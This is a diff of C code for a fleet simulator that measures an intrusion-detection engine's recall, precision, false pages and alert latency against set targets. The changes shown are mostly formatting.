-	{ "shop-web", 1, 12, APP_WEB, 40, 1, 1.25, 1 },
-	{ "ingest", 1, 6, APP_NIX, 50, 3, 1.4, 1 },
-	{ "admin", 1, 3, APP_PY, 0, 2, 1.6, 1 },
-	{ "k8s-node", 0, 6, APP_NODE, 100, 0, 0, 1 },
-	{ "batch", 0, 10, APP_PY, 20, 2, 1.5, 1 },
-	{ "edge", 0, 5, APP_WEB, 0, 1, 1.75, 0 },
+	{"shop-web", 1, 12, APP_WEB, 40, 1, 1.25, 1}, {"ingest", 1, 6, APP_NIX, 50, 3, 1.4, 1},
+	{"admin", 1, 3, APP_PY, 0, 2, 1.6, 1},        {"k8s-node", 0, 6, APP_NODE, 100, 0, 0, 1},
+	{"batch", 0, 10, APP_PY, 20, 2, 1.5, 1},      {"edge", 0, 5, APP_WEB, 0, 1, 1.75, 0},
 };
 
 static int find_herd(const char *name)
@@ -898,11 +918,11 @@ static int find_herd(const char *name)
 }
 
 /* a random live member of herd h (-1 none); skip member `not` */
-static int pick_member(int h, int not)
+static int pick_member(int h, int not )
 {
 	int c[512], n = 0;
 	for (int i = 0; i < nmems && n < 512; i++)
-		if (mems[i].herd == h && mems[i].alive && i != not)
+		if (mems[i].herd == h && mems[i].alive && i != not )
 			c[n++] = i;
 	return n ? c[rndn((unsigned)n)] : -1;
 }
@@ -988,15 +1008,21 @@ static void schedule_release(int h, uint64_t t)
 	for (int i = 0; i < n; i++) {
 		aq_push(at, A_RELEASE, ids[i], rel);
 		switch (herds[h].release) {
-		case 1: at += (30 + rndn(60)) * NS; break;  /* rolling */
-		case 2: at += rndn(1500) * MS; break;	     /* all at once */
-		default: at += (150 + rndn(60)) * NS; break; /* slower than the change window */
+		case 1:
+			at += (30 + rndn(60)) * NS;
+			break; /* rolling */
+		case 2:
+			at += rndn(1500) * MS;
+			break; /* all at once */
+		default:
+			at += (150 + rndn(60)) * NS;
+			break; /* slower than the change window */
 		}
 	}
 	waves = realloc(waves, (size_t)(nwaves + 1) * sizeof(*waves));
 	if (!waves)
 		abort();
-	waves[nwaves++] = (struct wave){ h, t, at + 30 * NS };
+	waves[nwaves++] = (struct wave){h, t, at + 30 * NS};
 }
 
 static void add_intrusion(int mi, int type, uint64_t t)
@@ -1007,7 +1033,7 @@ static void add_intrusion(int mi, int type, uint64_t t)
 		if (!intr)
 			abort();
 	}
-	intr[nintr] = (struct intrusion){ .member = mi, .type = type, .t0 = t };
+	intr[nintr] = (struct intrusion){.member = mi, .type = type, .t0 = t};
 	aq_push(t, A_INTRUDE, nintr, type);
 	nintr++;
 }
@@ -1133,7 +1159,8 @@ static int cmp_u64(const void *a, const void *b)
 }
 
 static int failed;
-static void check(const char *name, int ok, const char *fmt, ...) __attribute__((format(printf, 3, 4)));
+static void check(const char *name, int ok, const char *fmt, ...)
+	__attribute__((format(printf, 3, 4)));
 static void check(const char *name, int ok, const char *fmt, ...)
 {
 	char why[256];
@@ -1155,18 +1182,30 @@ int main(int argc, char **argv)
 	uint64_t seed = 18;
 	double days = 0;
 	int do_check = 0;
-	static const struct option opts[] = { { "size", 1, 0, 's' },   { "seed", 1, 0, 'S' },
-					      { "days", 1, 0, 'd' },   { "check", 0, 0, 'c' },
-					      { "alerts", 1, 0, 'a' }, { 0, 0, 0, 0 } };
+	static const struct option opts[] = {{"size", 1, 0, 's'},   {"seed", 1, 0, 'S'},
+					     {"days", 1, 0, 'd'},   {"check", 0, 0, 'c'},
+					     {"alerts", 1, 0, 'a'}, {0, 0, 0, 0}};
 	int o;
 	while ((o = getopt_long(argc, argv, "", opts, NULL)) != -1) {
 		switch (o) {
-		case 's': size = optarg; break;
-		case 'S': seed = strtoull(optarg, NULL, 10); break;
-		case 'd': days = atof(optarg); break;
-		case 'c': do_check = 1; break;
-		case 'a': alerts_file = optarg; break;
-		default: usage(); return 2;
+		case 's':
+			size = optarg;
+			break;
+		case 'S':
+			seed = strtoull(optarg, NULL, 10);
+			break;
+		case 'd':
+			days = atof(optarg);
+			break;
+		case 'c':
+			do_check = 1;
+			break;
+		case 'a':
+			alerts_file = optarg;
+			break;
+		default:
+			usage();
+			return 2;
 		}
 	}
 	int full = !strcmp(size, "full");
@@ -1185,8 +1224,8 @@ int main(int argc, char **argv)
 		return 2;
 	}
 	herds = full ? full_fleet : small_fleet;
-	nherds = full ? (int)(sizeof(full_fleet) / sizeof(full_fleet[0])) :
-			(int)(sizeof(small_fleet) / sizeof(small_fleet[0]));
+	nherds = full ? (int)(sizeof(full_fleet) / sizeof(full_fleet[0]))
+		      : (int)(sizeof(small_fleet) / sizeof(small_fleet[0]));
 	herd_rel = calloc((size_t)nherds, sizeof(int));
 	herd_cfg_default(&hcfg);
 	eng = herd_new(&hcfg, on_alert, NULL);
@@ -1220,15 +1259,18 @@ int main(int argc, char **argv)
 		if (herds[h].release)
 			schedule_release(h, T0 + (uint64_t)(herds[h].release_day * 86400 * NS));
 		if (full && herds[h].release && herds[h].size >= 12) /* a second release */
-			schedule_release(h, T0 + (uint64_t)((herds[h].release_day + 1.1) * 86400 * NS));
+			schedule_release(
+				h, T0 + (uint64_t)((herds[h].release_day + 1.1) * 86400 * NS));
 		if (!herds[h].containers && h != nodes)
 			aq_push(T0 + rnd_exp(86400 / (2 + herds[h].size / 4.0)), A_OPS, -1, h);
 		aq_push(T0 + 3600 * NS + rnd_exp(86400 / 1.5), A_CRASH, -1, h);
 		/* members joining and leaving */
 		if (herds[h].size >= 5) {
-			aq_push(T0 + (uint64_t)(rndf() * (days - 0.2) * 86400 * NS) + 3600 * NS, A_JOIN, -1, h);
+			aq_push(T0 + (uint64_t)(rndf() * (days - 0.2) * 86400 * NS) + 3600 * NS,
+				A_JOIN, -1, h);
 			if (herds[h].containers)
-				aq_push(T0 + (uint64_t)(rndf() * (days - 0.2) * 86400 * NS) + 3600 * NS,
+				aq_push(T0 + (uint64_t)(rndf() * (days - 0.2) * 86400 * NS) +
+						3600 * NS,
 					A_LEAVE, -1, h);
 		}
 	}
@@ -1292,9 +1334,11 @@ int main(int argc, char **argv)
 			continue;
 		for (size_t k = 0; k < nalerts; k++) {
 			struct alert *a = &alerts[k];
-			if (strcmp(a->kind, "member.outlier") || strcmp(a->member, mems[in->member].name))
+			if (strcmp(a->kind, "member.outlier") ||
+			    strcmp(a->member, mems[in->member].name))
 				continue;
-			if (a->at < in->arr0 || a->at > (in->t_end > in->arr0 ? in->t_end : in->arr0) + 600 * NS)
+			if (a->at < in->arr0 ||
+			    a->at > (in->t_end > in->arr0 ? in->t_end : in->arr0) + 600 * NS)
 				continue;
 			a->truth = 1;
 			if (!in->detected || a->at - in->arr0 < in->latency) {
@@ -1350,7 +1394,8 @@ int main(int argc, char **argv)
 		if (!do_check || getenv("FLEETSIM_VERBOSE")) {
 			char ts[48];
 			fmt_ts(ts, sizeof(ts), a->at);
-			fprintf(stderr, "# false page %s %s%s\n", ts, a->member, in_wave ? " (release)" : "");
+			fprintf(stderr, "# false page %s %s%s\n", ts, a->member,
+				in_wave ? " (release)" : "");
 		}
 	}
 	double member_days = 0;
@@ -1363,7 +1408,8 @@ int main(int argc, char **argv)
 	double recall = seqs ? 100.0 * hit5 / seqs : 0;
 	double precision = pages ? 100.0 * true_pages / pages : 100;
 	double fp_rate = member_days ? 1000.0 * false_pages / member_days : 0;
-	double p50 = nlat ? lat[nlat / 2] / 1e9 : 0, p95 = nlat ? lat[(nlat * 95 + 99) / 100 - 1] / 1e9 : 0;
+	double p50 = nlat ? lat[nlat / 2] / 1e9 : 0,
+	       p95 = nlat ? lat[(nlat * 95 + 99) / 100 - 1] / 1e9 : 0;
 	double eps = cpu_ns ? n_events / (cpu_ns / 1e9) : 0;
 	int nwave_h = nwaves;
 	printf("# fleetsim --size %s --seed %llu: %d herds, %d members (%.0f member-days scored, "
@@ -1384,21 +1430,22 @@ int main(int argc, char **argv)
 	printf("# latency: p50 %.3f s, p95 %.3f s (%d alerted)\n", p50, p95, nlat);
 	printf("# collector path CPU: %.2f s for %llu events = %.0f events per CPU-second "
 	       "(%.2f us/event); whole run %.2f s CPU\n",
-	       cpu_ns / 1e9, (unsigned long long)n_events, eps, cpu_ns / 1e3 / (n_events ? n_events : 1),
-	       total_cpu / 1e9);
+	       cpu_ns / 1e9, (unsigned long long)n_events, eps,
+	       cpu_ns / 1e3 / (n_events ? n_events : 1), total_cpu / 1e9);
 	for (int i = 0; i < nintr && !do_check; i++) {
 		struct intrusion *in = &intr[i];
 		if (in->member < 0)
 			continue;
 		char ts[48];
 		fmt_ts(ts, sizeof(ts), in->t0);
-		fprintf(stderr, "# intrusion %-15s %s on %s (%s)%s: %s %.3f s\n", intr_name[in->type],
-			ts, mems[in->member].name, herds[mems[in->member].herd].name,
-			in->spooled ? " spooled" : "", in->detected ? "alerted after" : "MISSED",
-			in->latency / 1e9);
+		fprintf(stderr, "# intrusion %-15s %s on %s (%s)%s: %s %.3f s\n",
+			intr_name[in->type], ts, mems[in->member].name,
+			herds[mems[in->member].herd].name, in->spooled ? " spooled" : "",
+			in->detected ? "alerted after" : "MISSED", in->latency / 1e9);
 	}
 	if (do_check) {
-		check("fleetsim_recall", recall >= 95, "%.1f%% of intruder sequences within 5 s (< 95%%)", recall);
+		check("fleetsim_recall", recall >= 95,
+		      "%.1f%% of intruder sequences within 5 s (< 95%%)", recall);
 		check("fleetsim_intruders_paged", seqs && paged * 100 >= 90 * seqs,
 		      "%d of %d intruder sequences paged (< 90%%)", paged, seqs);
 		/* The targets of issue 18 are for the full size (docs/collector.md "Fleet
@@ -1408,12 +1455,14 @@ int main(int argc, char **argv)
 		check("fleetsim_precision", precision >= 90,
 		      "%.1f%% of pages true (< 90%%; the target is 90%%)", precision);
 		check("fleetsim_release_pages", release_pages <= 1,
-		      "%d pages during release waves (> 1; the target at full size is 0)", release_pages);
+		      "%d pages during release waves (> 1; the target at full size is 0)",
+		      release_pages);
 		check("fleetsim_false_pages", fp_rate <= 20,
 		      "%.2f false pages per 1000 member-days (> 20; the target at full size is 1)",
 		      fp_rate);
 		check("fleetsim_latency_p95", nlat && p95 <= 2.0, "p95 %.3f s (> 2 s)", p95);
-		check("fleetsim_late_marked", late >= 1, "no alert marked late (the spooled intrusion)");
+		check("fleetsim_late_marked", late >= 1,
+		      "no alert marked late (the spooled intrusion)");
 		check("fleetsim_events_valid", n_events > 0 && n_skewed == 0,
 		      "%llu events, %llu clock-skewed", (unsigned long long)n_events,
 		      (unsigned long long)n_skewed);
